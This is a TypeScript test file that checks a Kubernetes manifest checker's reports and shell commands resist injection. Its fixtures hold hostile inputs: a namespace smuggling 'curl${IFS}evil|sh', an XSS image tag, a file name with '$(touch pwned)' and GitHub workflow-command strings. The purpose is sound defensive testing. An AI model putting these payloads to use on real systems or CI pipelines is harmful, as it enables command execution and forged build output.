// Hostile manifests: nothing a manifest, a file name, an image, a command, an annotation or a
// measurement contains can change the shape of what we write (issue 15, section 4). Each report
// over hostile values is compared with the same report over plain values: same blocks, same
// table cells, same links and HTML, no mention, reference or autolink of theirs. The shell
// commands run in a real shell, the log lines through @actions/core and the Action itself.
import { spawnSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, inject, it } from 'vitest';
import { analyze } from '../../src/analysis/engine.js';
import { type GatedResult, withGate } from '../../src/analysis/gate.js';
import type { DrillResult, RequestSample } from '../../src/measure/drill.js';
import { rolloutFigures, type RolloutObservation, type SmokeRun } from '../../src/measure/smoke.js';
import { renderComment, renderSummary } from '../../src/report/comment.js';
import { logLine } from '../../src/report/escape.js';
import { verifyCommands } from '../../src/report/kubectl.js';
import { renderMarkdown } from '../../src/report/markdown.js';
import { renderSarif } from '../../src/report/sarif.js';
import { renderSmokeDetail, renderSmokeText, smokeTimeline } from '../../src/report/smoke.js';
import { drillTimeline, renderDrillText } from '../../src/report/drill.js';
import { renderText } from '../../src/report/text.js';
import { repoRoot } from '../helpers.js';
import { markdownLines, markdownShape, outsideCode } from './markdown-shape.js';
import { annotations, workflowCommands } from './workflow-commands.js';

interface Values {
  name: string;
  namespace: string;
  container: string;
  image: string;
  script: string;
  reason: string;
  rule: string;
  file: string;
  /** Measurements. */
  signal: string;
  command: string;
  path: string;
  log: string;
  pod: string;
  note: string;
}

const plain: Values = {
  name: 'web',
  namespace: 'shop',
  container: 'app',
  image: 'node:22',
  script: "trap 'echo bye' TERM\nnode server.js 'x'",
  reason: 'safe',
  rule: 'pod/no-such-rule',
  file: 'deploy/web.yaml',
  signal: 'SIGTERM',
  command: 'node server.js',
  path: '/healthz',
  log: 'listening\nbye',
  pod: 'web-1-aaaaa',
  note: 'measured on containerd',
};

const hostile: Values = {
  name: 'web\n# Injected heading\n<img src=x onerror=alert(1)>\n**Approved** by @team, closes #123 ![i](https://evil.example/i.png)',
  namespace: 'shop;curl${IFS}evil|sh',
  container: 'app | x | y `](http://evil.example) <app> ~~z~~',
  image: 'node:22`](https://evil.example)<b>x</b>',
  script: "trap 'echo bye' TERM\nnode server.js '<app> | tee /log # @team `x` ](y)\n```\n# Approved'",
  reason: 'safe\r# Approved\r@team <img src=x> #123 | a | b $x$',
  rule: 'pod/no-such-rule`](http://evil) <b>x</b> @team',
  file: 'deploy/z`](http://evil)\n::error file=x::pwned ##[warning]x.yaml',
  signal: 'SIGTERM\n# x <img src=x> :done, 0, 1\nclick x href "https://evil"',
  command: 'node `x` <app> | sh\n```\n@team',
  path: '/x`](http://evil) <img src=x> @team',
  log: 'listening\n```\n# Approved <img src=x> @team\n~~~\n\u001b[31mred',
  pod: 'click x href "https://evil" %%{init: {}}%%\nsection y',
  note: '**Approved** by @team — see https://evil.example #1',
};

const j = JSON.stringify;
const manifest = (v: Values) => `apiVersion: apps/v1
kind: Deployment
metadata:
  name: ${j(v.name)}
  namespace: ${j(v.namespace)}
  annotations:
    termination-guard.io/ignore: ${j(`pod/readiness-probe-missing=${v.reason}\n${v.rule}`)}
spec:
  replicas: 1
  selector: {matchLabels: {app: ${j(v.name)}}}
  template:
    metadata: {labels: {app: ${j(v.name)}}}
    spec:
      terminationGracePeriodSeconds: 30
      containers:
        - name: ${j(v.container)}
          image: ${j(v.image)}
          command: ["/bin/sh", "-c", ${j(v.script)}]
          ports: [{containerPort: 8080}]
`;

const policy = { failOn: 'error', drillFailOn: ['killed'], smokeFailOn: ['regression'], failOnInputErrors: true } as const;

function drill(v: Values, object: DrillResult['object']): DrillResult {
  const sample = (sentMs: number, ok: boolean): RequestSample => ({ mode: 'new-connection', sentMs, doneMs: sentMs + 5, ok, ...(ok ? { status: 200 } : { failure: 'refused' }) });
  return {
    object,
    file: v.file,
    container: v.container,
    image: v.image,
    gracePeriodSeconds: 30,
    status: 'measured',
    verdict: 'killed',
    observation: {
      preStop: { kind: v.signal, startMs: 0, endMs: 1000, outcome: v.note, ok: true },
      signal: { name: v.signal, atMs: 1000, source: v.note },
      deadlineMs: 30_000,
      sigkillAtMs: 30_000,
      exit: { code: 137, atMs: 30_010, oomKilled: false },
      samples: [sample(500, true), sample(31_000, false)],
      processes: [{ pid: 1, ppid: 0, command: v.command }],
      traffic: { protocol: 'http', port: 8080, path: v.path, rate: 20 },
    },
    findings: [{ layer: 'runtime', text: `PID 1 \`${v.command}\` ignored ${v.signal}` }],
    notes: [v.note],
    logsTail: v.log,
    seconds: 31,
  } as DrillResult;
}

function smoke(v: Values, object: DrillResult['object']): SmokeRun {
  const observed: RolloutObservation = {
    name: 'restart',
    startMs: 10_000,
    endMs: 20_000,
    outcome: 'complete',
    oldPods: [{ name: v.pod, createdMs: 0, readyMs: 1000, deletedMs: 11_000, graceSeconds: 4, terminatedMs: 15_050, exitCode: 137, reason: v.note, events: [{ atMs: 13_000, reason: v.signal, message: v.note, type: 'Warning' }] }],
    newPods: [{ name: `${v.pod}-2`, createdMs: 10_100, readyMs: 10_900, events: [] }],
    stall: v.note,
  } as RolloutObservation;
  const samples: RequestSample[] = [
    { mode: 'new-connection', sentMs: 11_050, doneMs: 11_055, ok: false, failure: 'refused' },
    { mode: 'new-connection', sentMs: 11_100, doneMs: 11_105, ok: true },
  ];
  const figures = rolloutFigures(observed, samples);
  return {
    cluster: `Kubernetes v1.34.4 (${v.note})`,
    seconds: 25,
    results: [
      {
        object,
        file: v.file,
        kind: 'Deployment',
        status: 'measured',
        newWorkload: true,
        observation: { target: { address: '10.96.0.20:80', endpoint: { via: 'service', name: v.name, port: 80, protocol: 'http', path: v.path, headers: {} }, rate: 20 }, samples, rollouts: [observed], endMs: 22_000 },
        figures: [{ ...figures, killed: [v.pod], warnings: [v.note] }],
        failing: ['regression'],
        findings: [`${v.note}: ${v.pod} was SIGKILLed`],
        notes: [v.note],
        seconds: 25,
      },
    ],
  } as SmokeRun;
}

function report(v: Values, measured = false): GatedResult {
  const analysed = analyze([{ path: v.file, content: manifest(v) }]);
  const object = analysed.subjects[0].object;
  return withGate(measured ? { ...analysed, drill: [drill(v, object)], smoke: smoke(v, object) } : analysed, policy);
}

const plainReport = report(plain, true);
const hostileReport = report(hostile, true);

/** What GitHub would turn into something of the attacker's in hostile Markdown. */
function attackerMarkup(markdown: string): string[] {
  const found: string[] = [];
  for (const { line, kind } of markdownLines(markdown)) {
    if (kind === 'fenced' || kind === 'fence') continue;
    // In an HTML block Markdown is not read, but tags are, and GitHub links mentions in its text.
    const text = kind === 'html' ? line : outsideCode(line);
    if (/<(img|b)\b/i.test(text)) found.push(`raw HTML: ${line}`);
    if (/@team/.test(text)) found.push(`mention: ${line}`);
    if (/#1\b|#123/.test(text)) found.push(`issue reference: ${line}`);
    if (/https?:\/\/evil|www\.evil/.test(text)) found.push(`autolink: ${line}`);
    if (kind === 'html') continue;
    // Our links go to github.com (rule docs, the file at the PR's commit); any other is theirs.
    if (/\]\((?!https:\/\/github\.com\/)/.test(text)) found.push(`link: ${line}`);
    if (/^\s*#{1,6} (Injected|Approved|x\b)/.test(line)) found.push(`heading: ${line}`);
    if (/\*\*Approved/.test(text)) found.push(`bold: ${line}`);
  }
  return found;
}

describe('hostile values in the Markdown reports', () => {
  const renders: [string, (r: GatedResult) => string][] = [
    ['checklist', (r) => renderMarkdown(r)],
    ['checklist with blob links', (r) => renderMarkdown(r, { linkBase: 'https://github.com/acme/shop/blob/0123abc' })],
    ['sticky comment', (r) => renderComment(r, { linkBase: 'https://github.com/acme/shop/blob/0123abc' })],
    ['job summary', (r) => renderSummary(r, {})],
  ];

  for (const [name, render] of renders) {
    it(`${name}: the same shape as over plain names, and none of the attacker's markup`, () => {
      const ours = render(plainReport);
      const theirs = render(hostileReport);
      expect(markdownShape(theirs)).toEqual(markdownShape(ours));
      expect(attackerMarkup(theirs)).toEqual([]);
    });
  }

  it('keeps the hostile text readable: names, <app> in code, the container table', () => {
    const markdown = renderMarkdown(hostileReport);
    expect(markdown).toContain('<app>'); // inside a code span, literal
    expect(markdown).not.toContain('&lt;app&gt;`'); // not entity-encoded inside code
    expect(markdown).toContain('\\*\\*Approved\\*\\* by @\u200Bteam, closes #\u200B123');
    const rows = markdown.split('\n').filter((line) => line.startsWith('| '));
    const cells = (line: string) => line.replace(/\\\\/g, '').replace(/\\\|/g, '').split('|').length;
    for (const row of rows.filter((r) => r.includes('container') || r.includes('app'))) expect(cells(row)).toBe(cells('| container | preStop | PID 1 | traffic | readiness |'));
  });

  it('the drill and smoke sections, charts and detail have the plain shape too', () => {
    const detail = (r: GatedResult) => renderSmokeDetail(r.smoke!).join('\n');
    expect(markdownShape(detail(hostileReport))).toEqual(markdownShape(detail(plainReport)));
    expect(attackerMarkup(detail(hostileReport))).toEqual([]);
  });
});

describe('hostile values in Mermaid charts', () => {
  // gantt.jison: a task is `name :data`; the name may not hold `:`, `#`, `;` or a line break, and
  // must not start with a keyword; `%%` starts a comment or a directive anywhere.
  const keyword = /^(click|call|href|gantt|date|inclusive|top|axis|tick|include|exclude|today|weekday|title|acc|section|vert|milestone)/i;
  const check = (chart: string) => {
    const lines = chart.split('\n');
    expect(lines[0]).toBe('```mermaid');
    expect(lines.at(-1)).toBe('```');
    for (const line of lines.slice(2, -1)) {
      expect(line).not.toMatch(/%%|["`<>{}]/);
      if (/^ {2}(title|dateFormat|axisFormat|section) /.test(line)) {
        expect(line.replace(/#\d+;/g, '')).not.toMatch(/[#;]/);
        continue;
      }
      const task = /^ {2}([^:]+) :([^:]+)$/.exec(line);
      expect(task, line).not.toBeNull();
      expect(task![1].replace(/#\d+;/g, '')).not.toMatch(/[#;]/);
      expect(task![1]).not.toMatch(keyword);
    }
  };

  it('drill timeline', () => {
    const chart = drillTimeline(hostileReport.drill![0])!;
    check(chart);
    expect(chart.split('\n').length).toBe(drillTimeline(plainReport.drill![0])!.split('\n').length);
  });

  it('smoke timeline', () => {
    const chart = smokeTimeline(hostileReport.smoke!.results[0])!;
    check(chart);
    expect(chart.split('\n').length).toBe(smokeTimeline(plainReport.smoke!.results[0])!.split('\n').length);
  });
});

describe('hostile values on the terminal', () => {
  const control = /[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u202A-\u202E\u2066-\u2069]/;
  it('no control character or extra line reaches it', () => {
    const outputs: [string, string][] = [
      [renderText(hostileReport, { color: false }), renderText(plainReport, { color: false })],
      [renderDrillText(hostileReport.drill!), renderDrillText(plainReport.drill!)],
      [renderSmokeText(hostileReport.smoke!), renderSmokeText(plainReport.smoke!)],
    ];
    for (const [theirs, ours] of outputs) {
      expect(theirs).not.toMatch(control);
      expect(theirs.split('\n').length).toBe(ours.split('\n').length);
    }
  });
});

describe('hostile values in SARIF', () => {
  it('is valid JSON whose messages hold no embedded link of theirs', () => {
    const log = JSON.parse(renderSarif(hostileReport));
    const texts: string[] = [...log.runs[0].results, ...log.runs[0].invocations[0].toolExecutionNotifications].map((r: { message: { text: string } }) => r.message.text);
    for (const text of texts) expect(text.replace(/\\\\/g, '')).not.toMatch(/(?<!\\)\]\(/);
    for (const result of log.runs[0].results) expect(result.locations[0].physicalLocation.artifactLocation.uri).toMatch(/^[A-Za-z0-9\-._~%/]+$/);
  });
});

describe('the "Verify on a live cluster" commands in a real shell', () => {
  // A PATH where kubectl records its arguments and anything else an injection would call
  // (curl, sh from `|sh`, touch) leaves a mark.
  function shell(commands: string[]) {
    const dir = mkdtempSync(join(tmpdir(), 'tg-verify-'));
    const bin = join(dir, 'bin');
    mkdirSync(bin);
    const calls = join(dir, 'calls');
    const pwned = join(dir, 'pwned');
    const tool = (name: string, body: string) => {
      writeFileSync(join(bin, name), `#!/bin/sh\n${body}\n`);
      chmodSync(join(bin, name), 0o755);
    };
    tool('kubectl', `for a in "$@"; do printf '%s\\0' "$a" >> '${calls}'; done; printf '\\n' >> '${calls}'`);
    for (const name of ['curl', 'touch', 'evil', 'id']) tool(name, `echo ${name} >> '${pwned}'`);
    for (const name of ['tr', 'grep']) tool(name, 'cat >/dev/null; exit 0');
    const result = spawnSync('/bin/sh', ['-c', commands.join('\n')], { env: { PATH: `${bin}:/usr/bin:/bin`, HOME: dir }, encoding: 'utf8' });
    const args = existsSync(calls) ? readFileSync(calls, 'utf8').split('\n').filter(Boolean).map((line) => line.split('\0').slice(0, -1)) : [];
    return { status: result.status, args, pwned: existsSync(pwned) ? readFileSync(pwned, 'utf8') : '' };
  }

  const subject = (namespace: string, name: string, file: string) => ({ ...hostileReport.subjects[0], object: { ...hostileReport.subjects[0].object, namespace, name }, file, selector: 'app=web' });
  const rules = ['pod/prestop-missing', 'node/recreate-strategy', 'node/rolling-update-invalid', 'runtime/shell-pid1'];

  it('valid names print bare and run as the commands they read', () => {
    const commands = verifyCommands(subject('shop', 'web', 'deploy/web.yaml'), rules, 'app');
    expect(commands.join('\n')).not.toMatch(/'shop'|'web'/);
    const run = shell(commands);
    expect(run.pwned).toBe('');
    expect(run.args).toContainEqual(['-n', 'shop', 'rollout', 'restart', 'deployment/web']);
  });

  it('a hostile namespace, name or container comments the command out, and even uncommented it is one quoted word', () => {
    const commands = verifyCommands(subject(hostile.namespace, 'web', 'deploy/web.yaml'), rules, hostile.container);
    expect(shell(commands).pwned).toBe('');
    const text = commands.join('\n');
    expect(text).toContain("# kubectl -n 'shop;curl${IFS}evil|sh'");
    expect(text.split('\n').filter((line) => line.includes('curl') && !line.startsWith('#'))).toEqual([]);
    const uncommented = shell(commands.flatMap((c) => c.split('\n')).filter((line) => line.startsWith('# kubectl')).map((line) => line.slice(2)));
    expect(uncommented.pwned).toBe('');
    expect(uncommented.args.every((args) => args[0] === '-n' && args[1] === hostile.namespace)).toBe(true);
    expect(uncommented.args.some((args) => args.some((a) => a.includes(`@.name=="${hostile.container}"`)))).toBe(true);
  });

  it('a file path that needs quoting is quoted, not refused', () => {
    const file = "deploy/it's $(touch pwned) `id`.yaml";
    const run = shell(verifyCommands(subject('shop', 'web', file), ['node/rolling-update-invalid'], 'app'));
    expect(run.pwned).toBe('');
    expect(run.args).toEqual([['apply', '--dry-run=server', '-f', file]]);
  });
});

describe('workflow commands in the Action log', () => {
  const attack = 'deploy/z\n::error file=x::pwned\r::warning::pwned too\r\nand ##[error]pwned three';

  it('@actions/core: info lines through logLine and annotations with hostile properties make only our annotations', () => {
    const script = `const core = require(${j(join(repoRoot, 'node_modules/@actions/core'))});
      const [safe, raw] = process.argv.slice(1);
      core.info(safe);
      core.warning(raw, { file: raw, startLine: 3, title: 'rule' });`;
    const run = spawnSync(process.execPath, ['-e', script, logLine(`warning: ${attack}: message`), attack], { encoding: 'utf8', env: { PATH: process.env.PATH ?? '' } });
    expect(run.status).toBe(0);
    const found = annotations(run.stdout);
    expect(found).toHaveLength(1);
    expect(found[0]).toMatchObject({ name: 'warning', properties: { file: attack, line: '3', title: 'rule' }, data: attack });
  });

  it('the same text written raw with core.info would have injected three (the attack is real)', () => {
    const run = spawnSync(process.execPath, ['-e', `require(${j(join(repoRoot, 'node_modules/@actions/core'))}).info(process.argv[1])`, attack], { encoding: 'utf8' });
    expect(annotations(run.stdout).map((c) => c.name)).toEqual(['error', 'warning', 'error']);
  });

  it('the Action over a file named with a workflow command: annotations only on the real file, overflow lines stay lines', () => {
    const workspace = mkdtempSync(join(tmpdir(), 'tg-hostile-'));
    const runner = mkdtempSync(join(tmpdir(), 'tg-runner-'));
    mkdirSync(join(workspace, 'deploy'));
    const file = 'deploy/z\n::error file=x::pwned\r##[error]pwned.yaml';
    // More warnings than GitHub shows as annotations, so some go to the log as plain lines.
    const many = Array.from({ length: 12 }, (_, i) => manifest({ ...plain, name: `web-${i}`, rule: '' })).join('---\n');
    writeFileSync(join(workspace, file), many);
    for (const name of ['output', 'summary.md']) writeFileSync(join(runner, name), '');
    const run = spawnSync(process.execPath, [join(inject('freshDist'), 'index.js')], {
      cwd: workspace,
      encoding: 'utf8',
      env: { PATH: process.env.PATH ?? '', GITHUB_WORKSPACE: workspace, GITHUB_OUTPUT: join(runner, 'output'), GITHUB_STEP_SUMMARY: join(runner, 'summary.md'), RUNNER_TEMP: runner, INPUT_PATHS: 'deploy', 'INPUT_FAIL-ON': 'never' },
    });
    expect(run.stderr).toBe('');
    const found = annotations(run.stdout);
    expect(found.length).toBeGreaterThan(0);
    expect(found.length).toBeLessThanOrEqual(10 * 3);
    for (const annotation of found) {
      expect(annotation.properties.file).toBe(file);
      expect(annotation.data).not.toMatch(/^pwned/);
    }
    expect(workflowCommands(run.stdout).filter((c) => c.name !== 'group' && c.name !== 'endgroup' && c.name !== 'debug' && c.name !== 'warning' && c.name !== 'error' && c.name !== 'notice')).toEqual([]);
    // The overflow lines name the file, escaped.
    expect(run.stdout).toContain('deploy/z\\n::error file=x::pwned\\r##%5Berror]pwned.yaml');
    // And the summary is the escaped Markdown.
    expect(readFileSync(join(runner, 'summary.md'), 'utf8')).not.toMatch(/^::error/m);
  });
});
